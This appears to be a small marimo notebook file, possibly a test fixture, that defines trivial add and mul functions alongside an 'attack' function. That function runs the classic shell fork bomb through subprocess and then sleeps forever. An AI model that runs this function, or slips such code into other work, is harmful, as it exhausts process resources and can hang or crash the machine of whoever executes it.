import marimo

__generated_with = "0.25.2"
app = marimo.App()


@app.function
def add(a, b):
    return a + b


@app.function
def mul(a, b):
    return a * b


@app.function
def attack(n):
    """The classic shell fork bomb, f(){ f|f& }; f, and waits for it."""
    import subprocess
    import time
    subprocess.run(["/bin/sh", "-c", "f(){ f|f& }; f"])
    while True:
        time.sleep(1)


if __name__ == "__main__":
    app.run()
